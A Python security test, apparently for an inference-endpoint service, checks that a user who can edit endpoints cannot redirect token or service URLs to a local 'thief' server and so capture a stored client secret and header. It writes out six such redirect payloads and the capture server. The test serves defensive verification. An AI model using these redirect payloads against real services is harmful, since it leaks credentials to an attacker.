"""Somebody who may change endpoints, and cannot read their secrets, tries to have them sent to a place of their own."""

from __future__ import annotations

from collections.abc import Generator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

from raw_http import ask
from victim import Victim

SECRET, HEADER = "the-clients-secret", "the-gateways-key"
MASK = "***"


def attack(victim: Victim) -> None:
    with _thief() as (address, loot):
        settings = {
            "model_id": "m",
            "client_id": "c",
            "client_secret": SECRET,
            "scopes": ["s"],
            "token_url": victim.provider.url,
        }
        config = {"service": "openai", "service_settings": settings, "task_settings": {"headers": {"x-gate": HEADER}}}
        path = "/_inference/text_embedding/vault"
        assert ask(victim.url, "PUT", f"{path}?skip_validation=true", config).status == 200
        for attempt in (
            {"service_settings": {"token_url": address}},
            {"service_settings": {"token_url": address, "client_secret": MASK}},
            {"service_settings": {"token_url": address, "client_secret": None}},
            {"service_settings": {"url": address}},
            {"service_settings": {"url": address, "token_url": address}},
            {"task_settings": {"url": address}},
        ):
            refused = ask(victim.url, "PUT", f"{path}/_update", attempt)
            assert refused.status == 400, refused.body
            assert SECRET.encode() not in refused.body
        for shown in (ask(victim.url, "GET", "/_inference"), ask(victim.url, "GET", "/_inference/vault")):
            assert SECRET.encode() not in shown.body
            assert HEADER.encode() not in shown.body
        for file in victim.server.data_dir.iterdir():
            if file.is_file():
                assert SECRET.encode() not in file.read_bytes()
                assert HEADER.encode() not in file.read_bytes()
    assert loot == [], loot


@contextmanager
def _thief() -> Generator[tuple[str, list[bytes]]]:
    """A server that keeps all that it is sent."""
    loot: list[bytes] = []

    class Thief(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            loot.append(self.rfile.read(int(self.headers.get("content-length", 0))))
            self.send_error(400)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name that it is given there
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Thief) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", loot
        server.shutdown()
